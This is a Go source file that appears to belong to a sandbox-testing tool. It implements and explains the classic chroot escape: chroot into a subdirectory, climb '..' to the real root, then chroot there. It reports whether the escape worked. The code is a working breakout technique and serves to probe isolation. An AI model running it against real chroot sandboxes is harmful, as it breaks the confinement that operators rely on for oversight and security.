package main

import (
	"fmt"
	"os"
	"strings"
	"syscall"
	"unsafe"
)

// escape leaves a chroot by the oldest trick there is, and says whether it
// worked. It rests on three sentences of chroot(2): the call does not change
// the working directory; ".." is stopped only at the root directory; and a
// process has just one root at a time.
//
//  1. chroot into a subdirectory, but stay where we are: the working directory
//     is now *outside* the root, so no ".." on the way up meets the root.
//  2. chdir("..") until it leads nowhere: that is the top of the mount
//     namespace, the real root.
//  3. chroot(".") there.
//
// It needs CAP_SYS_CHROOT, which root in a plain chroot still has. After
// pivot_root(2) it goes through without an error and gains nothing: the top of
// the mount namespace *is* the container's root.
func escape(args []string) error {
	if len(args) != 0 {
		return errUsage
	}
	before, err := identify("/")
	if err != nil {
		return err
	}
	fmt.Println("root before:", before)
	if err := climb(); err != nil {
		fmt.Println("escaped: no:", err)
		return errRefused
	}
	after, err := identify("/")
	if err != nil {
		return err
	}
	fmt.Println("root after: ", after)
	fmt.Println("names in /: ", names("/", 12))
	if after == before {
		fmt.Println("escaped: no: the top of this mount namespace is the same directory")
		return errRefused
	}
	fmt.Println("escaped: yes")
	return nil
}

// climb does the three steps, and removes the directory it needed.
func climb() error {
	dir := fmt.Sprintf("probe-escape-%d", os.Getpid())
	if err := syscall.Mkdir(dir, 0o700); err != nil {
		return refusal("mkdir "+dir, err)
	}
	here, err := syscall.Open(".", syscall.O_DIRECTORY|syscall.O_CLOEXEC, 0)
	if err != nil {
		return refusal("open .", err)
	}
	defer syscall.Close(here)
	defer removeDir(here, dir)

	if err := syscall.Chroot(dir); err != nil {
		return refusal("chroot "+dir, err)
	}
	for {
		dot, err := identify(".")
		if err != nil {
			return err
		}
		up, err := identify("..")
		if err != nil {
			return err
		}
		if dot == up {
			break
		}
		if err := syscall.Chdir(".."); err != nil {
			return refusal("chdir ..", err)
		}
	}
	if err := syscall.Chroot("."); err != nil {
		return refusal("chroot .", err)
	}
	return nil
}

// removeDir removes name below the directory at; the path that led there may
// mean another place by now. An error is not worth failing for: the directory
// is empty and named for this probe.
func removeDir(at int, name string) {
	const atRemovedir = 0x200 // AT_REMOVEDIR, unlinkat(2)
	if p, err := syscall.BytePtrFromString(name); err == nil {
		syscall.Syscall(syscall.SYS_UNLINKAT, uintptr(at), uintptr(unsafe.Pointer(p)), atRemovedir)
	}
}

// identity is what makes a directory the same directory, whatever its path.
type identity struct{ major, minor, inode uint64 }

func (i identity) String() string {
	return fmt.Sprintf("dev %d:%d inode %d", i.major, i.minor, i.inode)
}

// identify reads the identity of path. The device number's bits are laid out
// as in the kernel's new_encode_dev().
func identify(path string) (identity, error) {
	var st syscall.Stat_t
	if err := syscall.Stat(path, &st); err != nil {
		return identity{}, refusal("stat "+path, err)
	}
	dev := uint64(st.Dev)
	return identity{
		major: dev >> 8 & 0xfff,
		minor: dev&0xff | dev>>12&0xfff00,
		inode: st.Ino,
	}, nil
}

// names lists the first few entries of a directory, for the eye.
func names(dir string, max int) string {
	entries, err := os.ReadDir(dir)
	if err != nil {
		return err.Error()
	}
	var list []string
	for i, e := range entries {
		if i == max {
			list = append(list, "...")
			break
		}
		list = append(list, e.Name())
	}
	return strings.Join(list, " ")
}
